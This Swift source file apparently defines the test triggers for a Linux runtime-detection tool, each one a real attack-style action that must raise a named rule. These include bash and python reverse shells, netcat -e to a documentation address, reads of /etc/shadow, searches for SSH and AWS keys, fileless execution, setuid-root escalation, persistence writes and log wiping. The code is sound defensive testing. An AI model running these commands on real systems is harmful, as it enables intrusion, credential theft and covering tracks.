import Foundation

/// The real actions that must raise each default rule: what an attacker (or the rule's variant: a
/// relative path, a symlink, a renamed binary) does on this machine. Setup runs outside the traced
/// cgroup; only the action is traced, and its process (or the child it prints) is the alert's pid.
struct DetectTrigger {
    let name: String
    /// Shell commands run untraced before the action (copies, symlinks, files to act on).
    let setup: String
    /// The traced action, run by `/bin/sh -c` after it joined the test cgroup, `exec`'d so its pid is known.
    let action: String
    /// Every rule expected for the alert's pid: exactly one alert each, and no other rule.
    let rules: [String]
    /// The action prints the pid the alert is about (a child it started) on its last output line.
    var printsPid = false
    /// Shell commands run untraced afterwards (files outside the test folder to remove).
    var cleanup = ""

    static let python = "/usr/bin/python3"
    static let setuidToRoot = "Setuid to root by a non-root process"
    /// The link probe's rules (links and removals).
    static let linkRules: Set<String> = ["Create symlink over sensitive files", "Create hardlink over sensitive files",
                                         "Delete or rename shell history", "Log file removed"]
    static let listenerRule = "New listening socket by a process that is not a known server"
    static let bindShellRule = "Shell or interpreter listening on a network port"
    static let udpShellRule = "Outbound UDP to a non-DNS port from a shell"
    static let moduleRule = "Linux Kernel Module Injection Detected"
    static let bpfRule = "BPF program loaded by an unexpected process"
    /// kmod's insmod (Debian package `kmod`, installed by `make deps`): the real loader as a trigger. Without
    /// it the trigger's command fails and so does the test, naming the trigger (never skipped).
    static let insmod = ["/usr/sbin/insmod", "/sbin/insmod"].first { FileManager.default.isExecutableFile(atPath: $0) }
        ?? "/usr/sbin/insmod"

    /// Every trigger, with `dir` the test's own folder (not world-writable, not hidden) and `id` a
    /// unique suffix for files outside it.
    static func all(dir: String, id: String) -> [DetectTrigger] {
        let py = python
        let ptraceAttach = """
        import ctypes, os, signal, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        child = os.fork()
        if child == 0:
            time.sleep(30); os._exit(0)
        assert libc.ptrace(16, child, None, None) == 0, ctypes.get_errno()
        os.waitpid(child, 0)
        libc.ptrace(REQUEST, child, ctypes.c_void_p(0x1000), None)
        libc.ptrace(17, child, None, None)
        os.kill(child, signal.SIGKILL); os.waitpid(child, 0)
        """
        let dropper = """
        import os, shutil
        os.chdir('\(dir)')
        shutil.copyfile('/bin/true', 'WRITTEN')
        os.chmod('CHMODDED', 0o755)
        os.execv('EXECUTED', ['payload'])
        """
        // A local listener (started untraced by the first trigger that needs it) for the reverse shells;
        // connections complete in its backlog, nothing is accepted. It exits after 5 minutes. It closes every
        // inherited fd first: holding the setup's output pipe would keep the setup from finishing.
        let listen = """
        [ -s \(dir)/port ] || { nohup \(py) -c "import os, socket, time
        os.closerange(3, 65536)
        s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(64)
        open('\(dir)/port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('\(dir)/port.tmp', '\(dir)/port'); time.sleep(300)" </dev/null >/dev/null 2>&1 &
        while [ ! -s \(dir)/port ]; do sleep 0.05; done; }
        """
        let port = "$(cat \(dir)/port)"
        // python's reverse shell: the socket on 0, 1 and 2 (one alert: stdin), then EXEC (exit, or exec a shell).
        let pyReverse = """
        import os, socket, sys
        s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
        for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
        EXEC
        """
        let packetSocket = """
        import socket
        socket.socket(socket.AF_PACKET, socket.TYPE, socket.htons(3)).close()
        """
        // A TCP listener on every IPv4 address, on a port the kernel picks (the process exits at once).
        let tcpListener = """
        import socket
        s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(1)
        """
        // A UDP server on ::, on the first free port from 47000 (the refused binds raise nothing).
        let udpServer = """
        import socket
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        for p in range(47000, 47500):
            try:
                s.bind(('::', p)); break
            except OSError:
                pass
        """
        // One datagram to an explicit destination without connect (sendto; SENDMSG: sendmsg to IPv6).
        let udpSend = """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'beacon', ('127.0.0.1', 4444))
        """
        let udpSendmsg = """
        import socket
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendmsg([b'beacon'], [], 0, ('::1', 9999))
        """
        // Module loads of a file that is no module (this kernel has no modules: ENOSYS; elsewhere ENOEXEC):
        // the attempt is the event. Nothing is ever loaded into the kernel of this shared machine.
        let finitModule = """
        import ctypes, os
        fd = os.open('\(dir)/evil.ko', os.O_RDONLY)
        ctypes.CDLL(None).syscall(313, fd, b'hide=1', 0)
        """
        let initModule = """
        import ctypes
        image = ctypes.create_string_buffer(b'not a module', 64)
        ctypes.CDLL(None).syscall(175, image, 64, b'x=1')
        """
        // bpf(BPF_PROG_LOAD) of a trivial socket filter (r0 = 0; exit): it loads, and is freed at exit.
        let progLoad = """
        import ctypes, struct
        c = ctypes.CDLL(None)
        i = ctypes.create_string_buffer(bytes([183, 0, 0, 0, 0, 0, 0, 0, 149, 0, 0, 0, 0, 0, 0, 0]), 16)
        l = ctypes.create_string_buffer(b'GPL')
        a = ctypes.create_string_buffer(128)
        struct.pack_into('IIQQ', a, 0, 1, 2, ctypes.addressof(i), ctypes.addressof(l))
        a[48:54] = b'filter'
        assert c.syscall(321, 5, a, 128) >= 0
        """
        var kernelReach = [
            DetectTrigger(name: "finit_module of a file that is no module (python ctypes)", setup: "echo 'not a module' > \(dir)/evil.ko",
                          action: "exec \(py) -c \"\(finitModule)\"", rules: [moduleRule]),
            DetectTrigger(name: "init_module by a renamed interpreter", setup: "cp \(py) \(dir)/kloader",
                          action: "exec \(dir)/kloader -c \"\(initModule)\"", rules: [moduleRule]),
            DetectTrigger(name: "BPF socket filter loaded by python", setup: "",
                          action: "exec \(py) -c \"\(progLoad)\"", rules: [bpfRule]),
            DetectTrigger(name: "BPF program loaded by a renamed interpreter", setup: "cp \(py) \(dir)/kworker",
                          action: "exec \(dir)/kworker -c \"\(progLoad)\"", rules: [bpfRule]),
        ]
        do {
            // kmod's insmod of an xz-compressed file (as distributions ship modules): where the kernel cannot
            // decompress modules itself, kmod decompresses it and makes ONE attempt, init_module; the loader's
            // exec rule and the syscall rule both fire for its pid. (An uncompressed file is first offered to
            // finit_module, and on ENOSYS, as on this kernel without modules, again to init_module: two
            // attempts, two alerts.)
            kernelReach.append(DetectTrigger(name: "insmod of an xz file that is no module",
                                             setup: "\(py) -c \"import lzma; open('\(dir)/fake-\(id).ko.xz', 'wb').write(lzma.compress(b'not a module'))\"",
                                             action: "exec \(insmod) \(dir)/fake-\(id).ko.xz debug=1 2>/dev/null",
                                             rules: ["Kernel module load tool executed", moduleRule]))
        }
        return kernelReach + [
            DetectTrigger(name: "UDP beacon by an implant named bash", setup: "cp \(py) \(dir)/bash",
                          action: "exec \(dir)/bash -c \"\(udpSend)\"",
                          rules: [udpShellRule]),
            DetectTrigger(name: "UDP sendmsg to IPv6 by an implant named sh", setup: "cp \(py) \(dir)/sh",
                          action: "exec \(dir)/sh -c \"\(udpSendmsg)\"",
                          rules: [udpShellRule]),
            DetectTrigger(name: "backdoor listener by a renamed interpreter", setup: "cp \(py) \(dir)/webcache",
                          action: "exec \(dir)/webcache -c \"\(tcpListener)\"",
                          rules: [listenerRule]),
            DetectTrigger(name: "UDP server on a fixed IPv6 port by a renamed interpreter", setup: "cp \(py) \(dir)/beacon",
                          action: "exec \(dir)/beacon -c \"\(udpServer)\"",
                          rules: [listenerRule]),
            DetectTrigger(name: "python bind shell", setup: "",
                          action: "exec \(py) -c \"\(tcpListener)\"",
                          rules: [bindShellRule]),
            DetectTrigger(name: "perl bind shell on IPv6", setup: "",
                          action: "exec perl -e 'use Socket qw(:all); socket(S, PF_INET6, SOCK_STREAM, 0) or die; bind(S, pack_sockaddr_in6(0, IN6ADDR_ANY)) or die; listen(S, 1) or die'",
                          rules: [bindShellRule]),
            DetectTrigger(name: "bash reverse shell over /dev/tcp", setup: listen,
                          action: "P=\(port); exec bash -c \"exec 0<>/dev/tcp/127.0.0.1/$P 1>&0 2>&0; exit 0\"",
                          rules: ["Socket redirected to a standard stream"]),
            DetectTrigger(name: "python reverse shell by a renamed interpreter", setup: listen + "\ncp \(py) \(dir)/updater",
                          action: "exec \(dir)/updater -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os._exit(0)"))\" \(port)",
                          rules: ["Socket redirected to a standard stream"]),
            DetectTrigger(name: "python reverse shell that execs /bin/sh", setup: listen,
                          action: "exec \(py) -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os.execv('/bin/sh', ['sh', '-c', 'exit 0'])"))\" \(port)",
                          rules: ["Socket redirected to a standard stream", "Shell executed with a network socket as standard input"]),
            DetectTrigger(name: "renamed interpreter reverse shell that execs bash", setup: listen + "\ncp \(py) \(dir)/syncd",
                          action: "exec \(dir)/syncd -c \"\(pyReverse.replacingOccurrences(of: "EXEC", with: "os.execv('/bin/bash', ['bash', '-c', 'exit 0'])"))\" \(port)",
                          rules: ["Socket redirected to a standard stream", "Shell executed with a network socket as standard input"]),
            DetectTrigger(name: "raw packet socket", setup: "",
                          action: "exec \(py) -c \"\(packetSocket.replacingOccurrences(of: "TYPE", with: "SOCK_RAW"))\"",
                          rules: ["Packet socket created by a process other than known sniffers"]),
            DetectTrigger(name: "cooked packet socket by a renamed interpreter", setup: "cp \(py) \(dir)/netmon",
                          action: "exec \(dir)/netmon -c \"\(packetSocket.replacingOccurrences(of: "TYPE", with: "SOCK_DGRAM"))\"",
                          rules: ["Packet socket created by a process other than known sniffers"]),
            DetectTrigger(name: "read /etc/shadow", setup: "", action: "exec cat /etc/shadow > /dev/null",
                          rules: ["Read sensitive file untrusted"]),
            DetectTrigger(name: "read shadow by a relative path", setup: "", action: "cd /etc && exec cat shadow > /dev/null",
                          rules: ["Read sensitive file untrusted"]),
            DetectTrigger(name: "traversal to /etc", setup: "", action: "cd /usr/share && exec cat ../../etc/hostname > /dev/null",
                          rules: ["Directory traversal monitored file read"]),
            DetectTrigger(name: "traversal, absolute", setup: "", action: "exec cat /usr/share/../../etc/hostname > /dev/null",
                          rules: ["Directory traversal monitored file read"]),
            DetectTrigger(name: "refused shadow five times", setup: "",
                          action: "exec setpriv --reuid=65534 --regid=65534 --clear-groups cat /etc/shadow /etc/gshadow /etc/shadow /etc/gshadow /etc/shadow 2>/dev/null",
                          rules: ["Repeated denied access to sensitive files"]),
            DetectTrigger(name: "refused shadow five times, relative", setup: "",
                          action: "cd /etc && exec setpriv --reuid=65534 --regid=65534 --clear-groups cat shadow shadow gshadow gshadow shadow 2>/dev/null",
                          rules: ["Repeated denied access to sensitive files"]),
            DetectTrigger(name: "find private keys", setup: "", action: "exec find /nonexistent-\(id) -name id_rsa 2>/dev/null",
                          rules: ["Search private keys or passwords"]),
            DetectTrigger(name: "find private keys through a symlink", setup: "ln -sf /usr/bin/find \(dir)/ff",
                          action: "exec \(dir)/ff /nonexistent-\(id) -name id_ed25519 2>/dev/null",
                          rules: ["Search private keys or passwords"]),
            DetectTrigger(name: "grep AWS keys", setup: "", action: "exec grep -r aws_access_key_id /nonexistent-\(id) 2>/dev/null",
                          rules: ["Find AWS credentials"]),
            DetectTrigger(name: "grep AWS keys through a symlink", setup: "ln -sf /usr/bin/grep \(dir)/gg",
                          action: "exec \(dir)/gg -r aws_secret_access_key /nonexistent-\(id) 2>/dev/null",
                          rules: ["Find AWS credentials"]),
            DetectTrigger(name: "shell from nginx", setup: "cp \(py) \(dir)/nginx",
                          action: "exec \(dir)/nginx -c \"import subprocess; p = subprocess.Popen(['/bin/sh', '-c', 'exit 0']); p.wait(); print(p.pid)\"",
                          rules: ["Run shell untrusted"], printsPid: true),
            DetectTrigger(name: "shell from postgres (renamed)", setup: "cp \(py) \(dir)/postgres",
                          action: "exec \(dir)/postgres -c \"import subprocess; p = subprocess.Popen(['/bin/bash', '-c', 'exit 0']); p.wait(); print(p.pid)\"",
                          rules: ["Run shell untrusted"], printsPid: true),
            DetectTrigger(name: "run from /tmp", setup: "cp /bin/true /tmp/isx-\(id)", action: "exec /tmp/isx-\(id)",
                          rules: ["Execution from a world-writable directory"], cleanup: "rm -f /tmp/isx-\(id)"),
            DetectTrigger(name: "run from /dev/shm, relative", setup: "cp /bin/true /dev/shm/isy-\(id)", action: "cd /dev/shm && exec ./isy-\(id)",
                          rules: ["Execution from a world-writable directory"], cleanup: "rm -f /dev/shm/isy-\(id)"),
            DetectTrigger(name: "run from a hidden folder", setup: "mkdir -p \(dir)/.hidden && cp /bin/true \(dir)/.hidden/tool",
                          action: "exec \(dir)/.hidden/tool", rules: ["Execution from a hidden directory"]),
            DetectTrigger(name: "run from a hidden folder, relative", setup: "mkdir -p \(dir)/.cachex && cp /bin/true \(dir)/.cachex/tool2",
                          action: "cd \(dir) && exec .cachex/tool2", rules: ["Execution from a hidden directory"]),
            DetectTrigger(name: "fexecve of a memfd", setup: "",
                          action: "exec \(py) -c \"import os; fd = os.memfd_create('x', 0); os.write(fd, open('/bin/true', 'rb').read()); os.execve(fd, ['x'], {})\"",
                          rules: ["Fileless execution via memfd_create"]),
            DetectTrigger(name: "exec of /proc/self/fd of a memfd", setup: "",
                          action: "exec \(py) -c \"import os; fd = os.memfd_create('y', 0); os.write(fd, open('/bin/true', 'rb').read()); os.execv('/proc/self/fd/%d' % fd, ['y'])\"",
                          rules: ["Fileless execution via memfd_create"]),
            // fexecve (execveat with an empty path) is fileless execution as well: both rules.
            DetectTrigger(name: "fexecve of a deleted binary", setup: "cp /bin/true \(dir)/gone1",
                          action: "exec \(py) -c \"import os; fd = os.open('\(dir)/gone1', os.O_RDONLY); os.unlink('\(dir)/gone1'); os.execve(fd, ['gone1'], {})\"",
                          rules: ["Execution of a deleted binary", "Fileless execution via memfd_create"]),
            // Through /proc/<pid>/fd/N, which no path rule knows: only the kernel's flag tells.
            DetectTrigger(name: "exec of /proc/PID/fd of a deleted binary", setup: "cp /bin/true \(dir)/gone2",
                          action: "exec \(py) -c \"import os; fd = os.open('\(dir)/gone2', os.O_RDONLY); os.unlink('\(dir)/gone2'); os.execv('/proc/%d/fd/%d' % (os.getpid(), fd), ['gone2'])\"",
                          rules: ["Execution of a deleted binary"]),
            DetectTrigger(name: "dropper", setup: "",
                          action: "exec \(py) -c \"\(dropper.replacingOccurrences(of: "WRITTEN", with: "\(dir)/payload").replacingOccurrences(of: "CHMODDED", with: "\(dir)/payload").replacingOccurrences(of: "EXECUTED", with: "\(dir)/payload"))\"",
                          rules: ["Drop and execute new binary"]),
            DetectTrigger(name: "dropper, relative paths", setup: "",
                          action: "exec \(py) -c \"\(dropper.replacingOccurrences(of: "WRITTEN", with: "payload2").replacingOccurrences(of: "CHMODDED", with: "./payload2").replacingOccurrences(of: "EXECUTED", with: "../\((dir as NSString).lastPathComponent)/payload2"))\"",
                          rules: ["Drop and execute new binary"]),
            DetectTrigger(name: "netcat -e", setup: "cp /bin/true \(dir)/nc", action: "exec \(dir)/nc -e /bin/sh 198.51.100.7 4444",
                          rules: ["Netcat remote code execution"]),
            DetectTrigger(name: "ncat --sh-exec through a symlink", setup: "ln -sf /bin/true \(dir)/ncat", action: "exec \(dir)/ncat --sh-exec /bin/sh 198.51.100.7 4444",
                          rules: ["Netcat remote code execution"]),
            DetectTrigger(name: "shred", setup: "echo data > \(dir)/junk1", action: "exec shred -u \(dir)/junk1",
                          rules: ["Remove bulk data from disk"]),
            DetectTrigger(name: "shred through a symlink", setup: "echo data > \(dir)/junk2 && ln -sf /usr/bin/shred \(dir)/wiper",
                          action: "exec \(dir)/wiper -u \(dir)/junk2", rules: ["Remove bulk data from disk"]),
            DetectTrigger(name: "insmod", setup: "cp /bin/true \(dir)/insmod", action: "exec \(dir)/insmod /nonexistent-\(id).ko",
                          rules: ["Kernel module load tool executed"]),
            DetectTrigger(name: "modprobe through a symlink", setup: "ln -sf /bin/true \(dir)/modprobe", action: "cd \(dir) && exec ./modprobe dummy",
                          rules: ["Kernel module load tool executed"]),
            DetectTrigger(name: "ptrace attach and poke", setup: "",
                          action: "exec \(py) -c \"\(ptraceAttach.replacingOccurrences(of: "REQUEST", with: "5"))\"",
                          rules: ["PTRACE attached to process"]),
            DetectTrigger(name: "ptrace attach by a renamed interpreter", setup: "cp \(py) \(dir)/helper",
                          action: "exec \(dir)/helper -c \"\(ptraceAttach.replacingOccurrences(of: "REQUEST", with: "4"))\"",
                          rules: ["PTRACE attached to process"]),
            DetectTrigger(name: "PTRACE_TRACEME", setup: "",
                          action: "exec \(py) -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, None, None)\"",
                          rules: ["PTRACE anti-debug attempt"]),
            DetectTrigger(name: "PTRACE_TRACEME by a renamed interpreter", setup: "cp \(py) \(dir)/guard",
                          action: "exec \(dir)/guard -c \"import ctypes; ctypes.CDLL(None).ptrace(0, 0, None, None)\"",
                          rules: ["PTRACE anti-debug attempt"]),
            // A set-user-id-root copy of the interpreter (made untraced, so the chmod raises nothing) run as
            // nobody: it starts with euid 0 and makes its real uid root too.
            DetectTrigger(name: "setuid(0) by a setuid-root program run as nobody",
                          setup: "cp \(py) \(dir)/suid-tool && chown root:root \(dir)/suid-tool && chmod 4755 \(dir)/suid-tool",
                          action: "exec setpriv --reuid=65534 --regid=65534 --clear-groups \(dir)/suid-tool -c \"import os; os.setuid(0)\"",
                          rules: [setuidToRoot]),
            DetectTrigger(name: "setreuid(0, 0) by a setuid-root program named like a kernel thread",
                          setup: "cp \(py) \(dir)/kworker && chown root:root \(dir)/kworker && chmod 4755 \(dir)/kworker",
                          action: "exec setpriv --reuid=65534 --regid=65534 --clear-groups \(dir)/kworker -c \"import os; os.setreuid(0, 0)\"",
                          rules: [setuidToRoot]),
            DetectTrigger(name: "chmod u+s", setup: "touch \(dir)/suid", action: "exec chmod u+s \(dir)/suid",
                          rules: ["Set setuid or setgid bit"]),
            DetectTrigger(name: "chmod 2755, relative", setup: "touch \(dir)/sgid", action: "cd \(dir) && exec chmod 2755 sgid",
                          rules: ["Set setuid or setgid bit"]),
            DetectTrigger(name: "cron.d file", setup: "", action: "exec touch /etc/cron.d/infrasight-it-\(id)",
                          rules: ["Crontab modified"], cleanup: "rm -f /etc/cron.d/infrasight-it-\(id)"),
            DetectTrigger(name: "cron.d file, relative", setup: "", action: "cd /etc/cron.d && exec touch infrasight-it2-\(id)",
                          rules: ["Crontab modified"], cleanup: "rm -f /etc/cron.d/infrasight-it2-\(id)"),
            DetectTrigger(name: "systemd unit", setup: "", action: "exec touch /etc/systemd/system/infrasight-it-\(id).service",
                          rules: ["Systemd unit written"], cleanup: "rm -f /etc/systemd/system/infrasight-it-\(id).service"),
            DetectTrigger(name: "systemd unit, relative", setup: "", action: "cd /etc/systemd && exec touch system/infrasight-it2-\(id).service",
                          rules: ["Systemd unit written"], cleanup: "rm -f /etc/systemd/system/infrasight-it2-\(id).service"),
            DetectTrigger(name: "ld.so.preload opened for append", setup: "",
                          action: "exec \(py) -c \"open('/etc/ld.so.preload', 'a').close()\"",
                          rules: ["Dynamic linker preload written"], cleanup: "[ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload"),
            DetectTrigger(name: "ld.so.preload, relative", setup: "", action: "cd /etc && exec touch ./ld.so.preload",
                          rules: ["Dynamic linker preload written"], cleanup: "[ -s /etc/ld.so.preload ] || rm -f /etc/ld.so.preload"),
            DetectTrigger(name: "authorized_keys", setup: "mkdir -p \(dir)/home/.ssh", action: "exec touch \(dir)/home/.ssh/authorized_keys",
                          rules: ["SSH authorized keys modified"]),
            DetectTrigger(name: "authorized_keys2, relative", setup: "mkdir -p \(dir)/home/.ssh", action: "cd \(dir)/home && exec touch .ssh/authorized_keys2",
                          rules: ["SSH authorized keys modified"]),
            DetectTrigger(name: "truncate a log", setup: "", action: "exec \(py) -c \"open('/var/log/infrasight-it-\(id).log', 'w').close()\"",
                          rules: ["Clear log activities"], cleanup: "rm -f /var/log/infrasight-it-\(id).log"),
            DetectTrigger(name: "truncate a log, relative", setup: "", action: "cd /var/log && exec \(py) -c \"open('infrasight-it2-\(id).log', 'w').close()\"",
                          rules: ["Clear log activities"], cleanup: "rm -f /var/log/infrasight-it2-\(id).log"),
            // Links and removals. The relative variants name the target from the link's directory, or are
            // passed against the cwd: the resolved paths carry the rule.
            DetectTrigger(name: "symlink to /etc/shadow", setup: "", action: "exec ln -s /etc/shadow \(dir)/shadow-link",
                          rules: ["Create symlink over sensitive files"]),
            DetectTrigger(name: "symlink to /etc, relative target", setup: "mkdir -p \(dir)/deep",
                          action: "cd \(dir)/deep && exec ln -s \(String(repeating: "../", count: 24))etc etc-link",
                          rules: ["Create symlink over sensitive files"]),
            DetectTrigger(name: "hard link to /etc/shadow", setup: "", action: "exec ln /etc/shadow /etc/infrasight-it-\(id)-hard",
                          rules: ["Create hardlink over sensitive files"], cleanup: "rm -f /etc/infrasight-it-\(id)-hard"),
            DetectTrigger(name: "hard link to /etc/gshadow, relative", setup: "",
                          action: "cd /etc && exec ln ./gshadow infrasight-it2-\(id)-hard",
                          rules: ["Create hardlink over sensitive files"], cleanup: "rm -f /etc/infrasight-it2-\(id)-hard"),
            DetectTrigger(name: "remove bash history", setup: "mkdir -p \(dir)/home && echo ls > \(dir)/home/.bash_history",
                          action: "exec rm -f \(dir)/home/.bash_history", rules: ["Delete or rename shell history"]),
            DetectTrigger(name: "rename zsh history away, relative", setup: "mkdir -p \(dir)/home && echo ls > \(dir)/home/.zsh_history",
                          action: "cd \(dir)/home && exec mv .zsh_history old-shell-lines", rules: ["Delete or rename shell history"]),
            DetectTrigger(name: "remove a log file", setup: "echo line > /var/log/infrasight-it3-\(id).log",
                          action: "exec rm -f /var/log/infrasight-it3-\(id).log", rules: ["Log file removed"],
                          cleanup: "rm -f /var/log/infrasight-it3-\(id).log"),
            DetectTrigger(name: "rename a log file away, relative", setup: "echo line > /var/log/infrasight-it4-\(id).log",
                          action: "cd /var/log && exec mv infrasight-it4-\(id).log \(dir)/taken.log", rules: ["Log file removed"],
                          cleanup: "rm -f /var/log/infrasight-it4-\(id).log"),
            DetectTrigger(name: "connect from /tmp", setup: "cp \(py) /tmp/pyx-\(id)",
                          action: "exec /tmp/pyx-\(id) -c \"import socket; s = socket.socket(); s.settimeout(0.3); s.connect_ex(('198.51.100.7', 80))\"",
                          rules: ["Execution from a world-writable directory", "Outbound connection from a binary in a world-writable directory"],
                          cleanup: "rm -f /tmp/pyx-\(id)"),
            DetectTrigger(name: "connect from /dev/shm, relative", setup: "cp \(py) /dev/shm/pyy-\(id)",
                          action: "cd /dev/shm && exec ./pyy-\(id) -c \"import socket; s = socket.socket(); s.settimeout(0.3); s.connect_ex(('198.51.100.7', 443))\"",
                          rules: ["Execution from a world-writable directory", "Outbound connection from a binary in a world-writable directory"],
                          cleanup: "rm -f /dev/shm/pyy-\(id)"),
            DetectTrigger(name: "ssh to port 2222", setup: "",
                          action: "exec ssh -F /dev/null -i /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 2222 198.51.100.7 true 2>/dev/null",
                          rules: ["Disallowed SSH connection non standard port"]),
            DetectTrigger(name: "ssh to port 8022 through a relative symlink", setup: "ln -sf /usr/bin/ssh \(dir)/ssh",
                          action: "cd \(dir) && exec ./ssh -F /dev/null -i /dev/null -o BatchMode=yes -o ConnectTimeout=1 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 8022 198.51.100.7 true 2>/dev/null",
                          rules: ["Disallowed SSH connection non standard port"]),
        ]
    }

    /// Rules that need a container; they are triggered in `podman` by the container test.
    static let containerRules: Set<String> = ["Contact K8S API server from container", "Mount launched in container",
                                              "Mount API used in container", "Debugfs launched in container",
                                              "Detect release_agent file container escapes"]
}
